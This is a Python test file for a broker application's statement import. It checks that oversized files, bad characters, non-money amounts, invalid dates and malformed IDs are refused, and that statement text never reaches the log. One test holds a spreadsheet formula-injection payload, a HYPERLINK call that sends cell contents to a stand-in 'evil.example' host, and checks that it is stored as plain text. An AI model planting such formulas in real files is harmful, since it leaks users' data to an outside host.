"""Hostile statements: too big, NUL and lone surrogates, amounts that are not money, formula cells.
Each gets a clear refusal that imports nothing, and never holds or crashes the server."""

from __future__ import annotations

import json
import time
from pathlib import Path

import pytest

from broker.settings import Settings
from broker.statements.models import AccountStatement, StatementLine
from tests import log_capture
from tests.account_statements.world import IMPORT, lines, world
from tests.factories import count

service_log = log_capture.service_log
HEADER = "Date,Payee,Amount,Reference\n"


@pytest.fixture
def settings(database_url: str, tmp_path: Path) -> Settings:
    """Room in the request body for a file past the statement limit, so the statement limit answers."""
    return Settings(
        environment="test",
        database_url=database_url,
        data_dir=tmp_path / "data",
        secret_key="test-secret-key-that-is-long-enough-for-hs256",
        max_body_bytes=8_000_000,
    )


async def _nothing_written(db) -> None:
    assert await count(db, StatementLine) == 0
    assert await count(db, AccountStatement) == 0


async def test_a_file_of_more_than_five_million_characters_is_refused_unread(api, db):
    w = await world(db)
    huge = HEADER + "2026-11-09,Jo Bloggs,-145.00," + "x" * 5_000_000 + "\n"
    started = time.monotonic()

    result = (await api.data(IMPORT, w.import_input(huge), as_user=w.broker))["importStatement"]

    assert time.monotonic() - started < 5
    assert result["userErrors"] == [
        {
            "field": "input.file",
            "message": "A statement file is at most 5,000,000 characters; split it by date.",
            "code": "TOO_LONG",
        }
    ]
    await _nothing_written(db)


async def test_a_file_of_more_than_fifty_thousand_lines_is_refused_unread(api, db):
    w = await world(db)
    many = HEADER + "2026-11-09,A,-1.00,\n" * 50_001

    result = (await api.data(IMPORT, w.import_input(many), as_user=w.broker))["importStatement"]

    assert result["userErrors"] == [
        {
            "field": "input.file",
            "message": "A statement file is at most 50,000 lines; split it by date.",
            "code": "TOO_LONG",
        }
    ]
    await _nothing_written(db)


@pytest.mark.parametrize("poison", ["\x00", "\ud800"], ids=["nul", "lone-surrogate"])
async def test_nul_and_lone_surrogates_are_refused_before_anything_runs(api, db, poison):
    w = await world(db)
    file = HEADER + f"2026-11-09,Jo{poison}Bloggs,-145.00,\n"
    body = json.dumps({"query": IMPORT, "variables": w.import_input(file)}).encode()

    response = await api.http.post(
        "/graphql",
        content=body,
        headers={
            "Authorization": f"Bearer {api.token_for(w.broker)}",
            "content-type": "application/json",
            "Accept": "application/graphql-response+json",
        },
    )

    assert response.status_code == 400
    assert [e["extensions"]["field"] for e in response.json()["errors"]] == ["input.file"]
    await _nothing_written(db)


@pytest.mark.parametrize(
    ("amount", "message"),
    [
        ("NaN", "'NaN' is not an amount of money: write pounds and pence, e.g. 12.50."),
        ("1e309", "'1e309' is not an amount of money: write pounds and pence, e.g. 12.50."),
        ("inf", "'inf' is not an amount of money: write pounds and pence, e.g. 12.50."),
        ("-£", "'-£' is not an amount of money: write pounds and pence, e.g. 12.50."),
        ("0x10", "'0x10' is not an amount of money: write pounds and pence, e.g. 12.50."),
        ("99999999999.99", "More than £1,000,000 on one line: is this the right column?"),
        ("-0.00", "An amount of 0.00 moves no money."),
    ],
)
async def test_amounts_that_are_not_money_are_refused_by_line_and_column(api, db, amount, message):
    w = await world(db)

    result = (
        await api.data(IMPORT, w.import_input(HEADER + f"2026-11-09,Jo Bloggs,{amount},\n"), as_user=w.broker)
    )["importStatement"]

    assert result["userErrors"] == [
        {"field": "input.file.2.amount", "message": f"Line 2, column 'Amount': {message}", "code": "INVALID"}
    ]
    await _nothing_written(db)


async def test_a_signed_amount_in_a_paid_out_column_is_refused(api, db):
    w = await world(db)
    export = "Date,Description,Paid out,Paid in\n09/11/2026,JO BLOGGS,-145.00,\n10/11/2026,SHOP,5.00,5.00\n"

    result = (await api.data(IMPORT, w.import_input(export, "BANK_PAID_OUT_PAID_IN"), as_user=w.broker))[
        "importStatement"
    ]

    assert result["userErrors"] == [
        {
            "field": "input.file.2.paidOut",
            "message": "Line 2, column 'Paid out': Write this amount without a sign: the column says which "
            "way the money went.",
            "code": "INVALID",
        },
        {
            "field": "input.file.3.paidIn",
            "message": "Line 3: money went both out and in on one line; give each its own.",
            "code": "INVALID",
        },
    ]
    await _nothing_written(db)


async def test_a_future_date_and_a_short_row_are_refused(api, db):
    w = await world(db)
    file = HEADER + "2027-01-01,Jo Bloggs,-145.00,\n2026-11-09\n"

    result = (await api.data(IMPORT, w.import_input(file), as_user=w.broker))["importStatement"]

    assert [(e["field"], e["message"]) for e in result["userErrors"]] == [
        (
            "input.file.2.date",
            "Line 2, column 'Date': This date is after today: a statement shows only what has happened.",
        ),
        ("input.file.3", "Line 3: it has 1 cells where the header has 4."),
    ]


async def test_a_thousand_bad_lines_report_fifty_and_a_count(api, db):
    w = await world(db)
    file = HEADER + "yesterday,Jo,-1.00,\n" * 1_000

    errors = (await api.data(IMPORT, w.import_input(file), as_user=w.broker))["importStatement"]["userErrors"]

    assert len(errors) == 51
    assert errors[-1] == {
        "field": "input.file",
        "message": "... and 950 more problems; nothing was imported.",
        "code": "INVALID",
    }


async def test_formula_cells_are_stored_as_text_exactly(api, db):
    w = await world(db)
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Refund")'
    file = HEADER + f'2026-11-09,"{formula.replace(chr(34), chr(34) * 2)}",-5.00,@SUM(A1:A9)\n'

    result = (await api.data(IMPORT, w.import_input(file), as_user=w.broker))["importStatement"]

    assert result["userErrors"] == []
    [line] = (await lines(api, w.broker))["nodes"]
    assert (line["payee"], line["reference"], line["status"]) == (formula, "@SUM(A1:A9)", "UNMATCHED")


async def test_a_malformed_holder_id_is_a_request_error(api, db):
    w = await world(db)
    variables = w.import_input(HEADER + "2026-11-09,Jo,-1.00,\n")
    variables["input"]["holderId"] = "not-an-id"

    response = await api.post(IMPORT, variables, as_user=w.broker)

    body = response.json()
    assert body.get("data") is None
    assert [(e["extensions"]["field"], e["extensions"]["code"]) for e in body["errors"]] == [
        ("input.holderId", "INVALID")
    ]
    await _nothing_written(db)


async def test_nothing_a_statement_says_reaches_the_log(api, db, service_log):
    w = await world(db)
    file = (
        HEADER + "2026-11-09,Planted Payee Zebra,-5.00,PLANTED-REF-77\n2026-11-10,Planted Other Yak,oops,\n"
    )

    await api.data(IMPORT, w.import_input(file), as_user=w.broker)
    await api.data(
        IMPORT, w.import_input(file.splitlines()[0] + "\n" + file.splitlines()[1]), as_user=w.broker
    )

    written = service_log.getvalue()
    for planted in ("Planted Payee Zebra", "PLANTED-REF-77", "Planted Other Yak"):
        assert planted not in written
